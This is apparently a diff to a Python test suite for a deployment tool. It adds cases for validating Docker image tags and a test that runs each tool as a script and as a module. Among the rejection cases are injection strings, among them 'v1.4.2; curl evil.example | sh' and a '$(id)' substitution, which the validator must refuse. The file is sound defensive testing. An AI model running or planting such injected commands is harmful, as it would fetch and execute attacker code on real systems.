@@ -9,6 +9,7 @@ import contextlib
 import hashlib
 import shutil
 import subprocess
+import sys
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -62,6 +63,9 @@ def test_the_image_is_set_in_place_and_nothing_else_changes(project: Path, given
         ("latest", "the tag latest moves"),
         (f"{REPOSITORY}", "no tag"),
         ("ghcr.io/someone-else/frontend:v1.4.2", "not of the repository the stacks deploy"),
+        # Another repository, not a malformed tag: the message says which.
+        ("nginx:1.27", "names the repository nginx (Docker Hub's docker.io/library/nginx), not the one the stacks"),
+        ("docker.io/library/nginx:1.27", "not of the repository the stacks deploy"),
         ("v1.4.2; curl evil.example | sh", "whitespace"),
         ("v1.4.2$(id)", "not a tag, a sha256 digest or an image reference"),
         ("sha256:abc", "not a tag, a sha256 digest or an image reference"),
@@ -342,3 +346,23 @@ def test_the_accept_key_is_rfc_6455s() -> None:
 def test_the_staging_host_comes_from_the_stack_file(capsys: pytest.CaptureFixture[str]) -> None:
     assert smoke_test.main(["--stack", "staging", "--print-host"]) == 0
     assert capsys.readouterr().out.strip() == "staging.hft-platform.com"
+
+
+TOOLS = sorted(p.stem for p in (PROJECT_DIR / "tools").glob("*.py") if p.stem != "__init__")
+
+
+@pytest.mark.parametrize("tool", TOOLS)
+@pytest.mark.parametrize("how", ["script", "module"])
+def test_each_tool_runs_as_a_script_and_as_a_module(tool: str, how: str, tmp_path: Path) -> None:
+    # `python3 tools/x.py` from anywhere (the docs write it so) and `python -m tools.x` from the project.
+    command = (
+        [sys.executable, str(PROJECT_DIR / "tools" / f"{tool}.py")]
+        if how == "script"
+        else [sys.executable, "-m", f"tools.{tool}"]
+    )
+    result = subprocess.run(
+        [*command, "--help"], cwd=tmp_path if how == "script" else PROJECT_DIR, capture_output=True, text=True
+    )
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    assert result.stdout.startswith("usage: ")
